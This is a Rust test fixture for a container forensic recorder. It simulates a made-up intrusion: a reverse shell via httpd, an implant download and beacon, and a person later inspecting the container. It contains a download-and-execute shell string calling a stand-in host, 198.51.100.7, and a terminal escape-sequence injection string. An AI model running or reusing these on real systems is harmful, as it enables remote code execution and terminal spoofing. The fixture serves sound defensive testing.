//! A made-up incident, for the unit tests of query and tui only: no recorder saw any of it.
//!
//! ```text
//! seconds  what happens in container `web`
//!  0       it is created; systemd > dockerd (both on the host, found running) > sh, its init
//!  0.5     sh runs httpd, which listens on 8080 and opens its configuration
//! 10       somebody connects; httpd runs `sh -c` with that connection as stdin: a reverse shell (finding)
//! 10.2     the recorder goes to level full: some single system calls of the implant are there too
//! 10.3     sh runs curl, which downloads /tmp/.part and renames it to /tmp/.x
//! 11       chmod; /tmp/.x runs, asks for beacon.example, is refused by 127.0.0.1:4444, reaches 198.51.100.7:4444 with TLS
//! 11.5     a process whose name, arguments and DNS question are terminal escape sequences; /tmp/.x removes itself
//! 11.6     /tmp/.x does a bit of everything: files, odd sockets, privileges, the kernel
//! 11.7     three bulk events are lost
//! 13       /tmp/.x is killed by signal 9, its sh exits with 137
//! 15       a person comes in with `docker exec -it`, types two commands, and is shown escape sequences
//! 20       a person asks for the evidence
//! ```

use crate::assemble::{Source, assemble};
use crate::bundle::{self, SUFFIX};
use crate::clock::{Anchor, BootNs, Clock};
use crate::container::{Container, Runtime};
use crate::event::{
    Body, Class, Endpoint, Event, EventRef, FileOp, Finding, FindingSource, FlowEvent, FlowOp, FlowPhase, Gap,
    GapCause, Image, LifecycleOp, Protocol, Severity, Stdio,
};
use crate::ids::{BootId, ContainerKey};
use crate::manifest::{self, Hook, Host, Manifest, SegmentRef, TableRef, Trigger, Window};
use crate::segment::Content;
use crate::table::Tables;
use std::path::{Path, PathBuf};
use story::{Story, actor, at, end};

mod calls;
pub mod mutate;
mod state;
mod story;
mod visit;

/// Id of the recorded container.
pub const CONTAINER_ID: &str = "3f2a9c1b7d5e4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";
/// A process's name and argument that would retitle, recolour and reorder a terminal.
pub const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{1b}[31m\u{202e}exe.txt\u{9b}2J\r\n";

/// Boot time at which the story begins.
const BEGIN_NS: BootNs = 1_000_000_000_000;
/// The same moment: 2026-03-14T09:00:00Z.
const BEGIN_UTC_NS: i64 = 1_773_478_800_000_000_000;
const MS: u64 = 1_000_000;

/// The events of the incident, as the recorder saw them.
pub fn events() -> Vec<Event> {
    tell().events
}

/// The incident as a manifest and tables.
///
/// # Panics
/// Where its own events do not fit the tables, a fault of this file or of `assemble`.
pub fn incident() -> (Manifest, Tables) {
    let clock = Clock::new(vec![Anchor { boot_ns: BEGIN_NS, utc_ns: BEGIN_UTC_NS }]);
    let window = Window { from_ns: BEGIN_NS, to_ns: BEGIN_NS + 25_000 * MS };
    let container = container();
    let story = tell();
    let source = Source {
        container: &container,
        window,
        clock: &clock,
        live: story.live,
        ancestors_outside: true,
        state: Some(&story.state),
        events: story.events,
    };
    let assembled = assemble(source, &mut std::iter::empty()).expect("the story fits the tables");
    let tables = assembled.tables.iter();
    let manifest = Manifest {
        format_version: crate::FORMAT_VERSION,
        tool: "taffrail 0.1.0 (fixture)".to_owned(),
        id: "0badcafe".to_owned(),
        sealed_utc_ns: BEGIN_UTC_NS + 26_000 * MS as i64,
        container,
        trigger: Trigger {
            rule: "reverse_shell".to_owned(),
            severity: Severity::Critical,
            reason: "a shell has a network connection as its standard input".to_owned(),
            time_ns: BEGIN_NS + 10_200 * MS,
        },
        most_severe: None,
        window,
        host: Host {
            hostname: "quay".to_owned(),
            kernel: "6.18.0".to_owned(),
            arch: "x86_64".to_owned(),
            boot_id: boot().0,
        },
        tables: tables.map(|table| TableRef { name: table.spec().name.to_owned(), rows: table.rows() }).collect(),
        clock,
        hooks: vec![
            Hook { name: "tp_btf/sched_process_exec".to_owned(), state: "attached".to_owned(), reason: None },
            Hook {
                name: "lsm/file_open".to_owned(),
                state: "refused".to_owned(),
                reason: Some("lockdown: integrity".to_owned()),
            },
        ],
        losses: assembled.losses,
        state: manifest::State {
            looked: Some(Window { from_ns: story.state.from_ns, to_ns: story.state.to_ns }),
            missing: None,
            left_out: story.state.left_out.clone(),
            init: story.state.describe_init(),
        },
        segments: vec![segment(Class::Vital, 40, "a"), segment(Class::Bulk, 4, "b")],
        chain_heads: Vec::new(),
        config_sha256: None,
        signature_namespace: None,
        redaction: None,
    };
    (manifest, assembled.tables)
}

/// The incident as the events that it is made of.
pub fn content() -> Content {
    let story = tell();
    Content { live: story.live, events: story.events }
}

/// Writes the incident as a bundle into `dir` and gives its path.
///
/// # Panics
/// Where `dir` cannot be written.
pub fn write_incident(dir: &Path) -> PathBuf {
    let (manifest, tables) = incident();
    let path = dir.join(format!("web-20260314T090010Z-{}{SUFFIX}", manifest.id));
    bundle::write(&path, &manifest, tables).expect("the directory can be written");
    path
}

fn segment(class: Class, events: u32, letter: &str) -> SegmentRef {
    SegmentRef { class, seq: 0, events, sha256: letter.repeat(64), previous: Some("0".repeat(64)) }
}

fn boot() -> BootId {
    BootId("5d3f9c52-0000-4000-8000-000000000000".to_owned())
}

fn container() -> Container {
    Container {
        key: ContainerKey::new(&boot(), 4711),
        id: CONTAINER_ID.to_owned(),
        name: "web".to_owned(),
        runtime: Runtime::Docker,
        cgroup_path: format!("/docker/{CONTAINER_ID}"),
        created_ns: Some(BEGIN_NS),
        image: Some("registry.example/web:1.4".to_owned()),
        image_digest: Some(format!("sha256:{}", "c0ffee".repeat(10))),
        labels: [("team".to_owned(), "harbour".to_owned())].into(),
        users: Default::default(),
        groups: Default::default(),
        setup: None,
    }
}

fn tell() -> Story {
    let mut story = Story::default();
    let systemd = story.found(1, None, "/usr/lib/systemd/systemd", &["/sbin/init"], 10 * MS);
    let dockerd = story.found(800, Some(&systemd), "/usr/bin/dockerd", &["dockerd", "-H", "fd://"], 9_000 * MS);
    story.lifecycle(0, LifecycleOp::Created, None);
    let init = story.run(100, 5000, &dockerd, "/bin/busybox", &["sh", "/entrypoint.sh"], Stdio::CharDevice);
    let httpd = story.run(500, 5001, &init, "/bin/busybox", &["httpd", "-f", "-p", "8080"], Stdio::CharDevice);
    story.flow(600, &httpd, 1, FlowPhase::Begin, &listener());
    story.file(700, &httpd, FileOp::Open, "/etc/httpd.conf", 0);
    story.io(705, &httpd, "/etc/httpd.conf", 212, 0);
    story.file(710, &httpd, FileOp::Open, "/etc/httpd.d/extra.conf", -2);
    let shell = intrusion(&mut story, &httpd);
    download(&mut story, &shell);
    story.state = state::tell(&init, &httpd, &shell);
    let implant = implant(&mut story, &shell);
    calls::tell(&mut story, &implant);
    aftermath(&mut story, &shell, &implant, &httpd);
    visit::tell(&mut story, &dockerd);
    story
}

fn intrusion(story: &mut Story, httpd: &Image) -> Image {
    story.flow(10_000, httpd, 2, FlowPhase::Begin, &visitor());
    let stdin = Stdio::Inet { local: visitor().local, remote: end("203.0.113.9", 40112) };
    let script = "curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x";
    let shell = story.run(10_110, 5010, httpd, "/bin/busybox", &["sh", "-c", script], stdin);
    story.add(
        at(10_200),
        Some(actor(&shell)),
        Body::Finding(Box::new(Finding {
            priority: Some("critical".to_owned()),
            tags: vec!["mitre_execution".to_owned(), "T1059.004".to_owned()],
            techniques: vec!["T1059.004".to_owned()],
            events: vec![EventRef { time_ns: at(10_110), actor: Some(actor(&shell)), step: None }],
            ..Finding::new(
                "reverse_shell",
                FindingSource::Rule,
                Severity::Critical,
                "sh runs with 203.0.113.9:40112 as its standard input".to_owned(),
            )
        })),
    );
    story.lifecycle(10_205, LifecycleOp::Level, Some("full: reverse_shell".to_owned()));
    shell
}

fn download(story: &mut Story, shell: &Image) {
    let url = "http://198.51.100.7/x";
    let curl = story.run(10_310, 5011, shell, "/usr/bin/curl", &["curl", "-so", "/tmp/.part", url], Stdio::Pipe);
    let mut flow = call(3, end("172.17.0.2", 51000), end("198.51.100.7", 80));
    story.flow(10_350, &curl, 3, FlowPhase::Begin, &flow);
    story.flow(10_380, &curl, 3, FlowPhase::Established, &flow);
    story.file(10_400, &curl, FileOp::Create, "/tmp/.part", 0);
    (flow.bytes_sent, flow.bytes_received) = (84, 1_482_752);
    story.digest(10_320, &curl, Err("permission denied".to_owned()));
    story.io(10_790, &curl, "/tmp/.part", 0, 1_482_752);
    story.flow(10_800, &curl, 3, FlowPhase::End, &flow);
    story.exit(10_810, &curl, Some(0), None);
    let mv = story.run(10_830, 5012, shell, "/bin/busybox", &["mv", "/tmp/.part", "/tmp/.x"], Stdio::Pipe);
    story.file(10_850, &mv, FileOp::Rename, "/tmp/.part", 0);
    story.exit(10_860, &mv, Some(0), None);
    let chmod = story.run(11_000, 5013, shell, "/bin/busybox", &["chmod", "755", "/tmp/.x"], Stdio::Pipe);
    story.file(11_010, &chmod, FileOp::Chmod, "/tmp/.x", 0);
    story.exit(11_020, &chmod, Some(0), None);
}

fn implant(story: &mut Story, shell: &Image) -> Image {
    let implant = story.run(11_200, 5014, shell, "/tmp/.x", &["/tmp/.x"], Stdio::Pipe);
    story.digest(11_205, &implant, Ok([0xab; 32]));
    let mut question = udp(6, end("172.17.0.2", 40053), end("172.17.0.1", 53));
    story.flow(11_220, &implant, 6, FlowPhase::Begin, &question);
    story.dns(11_221, &implant, "beacon.example", None);
    story.dns(11_232, &implant, "beacon.example", Some(("NOERROR", &["198.51.100.7"])));
    (question.bytes_sent, question.bytes_received) = (32, 48);
    story.flow(11_240, &implant, 6, FlowPhase::End, &question);
    let mut refused = call(4, end("127.0.0.1", 51001), end("127.0.0.1", 4444));
    story.flow(11_250, &implant, 4, FlowPhase::Begin, &refused);
    refused.result = -111;
    story.flow(11_251, &implant, 4, FlowPhase::End, &refused);
    let open = call(5, end("172.17.0.2", 51002), end("198.51.100.7", 4444));
    story.flow(11_300, &implant, 5, FlowPhase::Begin, &open);
    story.flow(11_340, &implant, 5, FlowPhase::Established, &open);
    story.server_name(11_342, &implant, 5, "beacon.example");
    let hostile = story.run(11_500, 5015, &implant, "/tmp/.x", &[HOSTILE, "plain"], Stdio::Pipe);
    story.file(11_520, &hostile, FileOp::Open, "/etc/shadow", -13);
    story.dns(11_530, &hostile, HOSTILE, None);
    story.exit(11_540, &hostile, Some(1), None);
    story.file(11_600, &implant, FileOp::Unlink, "/tmp/.x", 0);
    implant
}

fn aftermath(story: &mut Story, shell: &Image, implant: &Image, httpd: &Image) {
    story.add(
        at(12_000),
        None,
        Body::Gap(Gap {
            class: Class::Bulk,
            cause: GapCause::RingFull,
            lost: Some(3),
            from_ns: at(11_700),
            to_ns: at(12_000),
            own: true,
        }),
    );
    story.exit(13_000, implant, None, Some(9));
    story.exit(13_100, shell, Some(137), None);
    let mut visit = visitor();
    (visit.bytes_sent, visit.bytes_received) = (512, 301);
    story.flow(13_200, httpd, 2, FlowPhase::End, &visit);
    story.add(
        at(20_000),
        None,
        Body::Finding(Box::new(Finding::new(
            "manual",
            FindingSource::Person,
            Severity::Info,
            "asked for by root".to_owned(),
        ))),
    );
}

fn flow(id: u64, op: FlowOp, local: Endpoint, remote: Option<Endpoint>) -> FlowEvent {
    FlowEvent {
        flow_id: id,
        phase: FlowPhase::Begin,
        protocol: Protocol::Tcp,
        op,
        start_ns: 0,
        local,
        remote,
        bytes_sent: 0,
        bytes_received: 0,
        result: 0,
    }
}

fn listener() -> FlowEvent {
    flow(1, FlowOp::Listen, end("::", 8080), None)
}

fn visitor() -> FlowEvent {
    flow(2, FlowOp::Accept, end("172.17.0.2", 8080), Some(end("203.0.113.9", 40112)))
}

fn call(id: u64, local: Endpoint, remote: Endpoint) -> FlowEvent {
    flow(id, FlowOp::Connect, local, Some(remote))
}

fn udp(id: u64, local: Endpoint, remote: Endpoint) -> FlowEvent {
    FlowEvent { protocol: Protocol::Udp, ..call(id, local, remote) }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundle::{Bundle, Verdict};

    #[test]
    fn the_incident_is_a_bundle_that_verifies() {
        let dir = tempfile::tempdir().expect("a directory");
        let bundle = Bundle::open(&write_incident(dir.path())).expect("a bundle");
        assert!(matches!(bundle.verify(), Ok(Verdict::Intact(_))));
        assert_eq!(bundle.manifest().container.name, "web");
        assert_eq!(bundle.manifest().losses.len(), 1);
    }
}
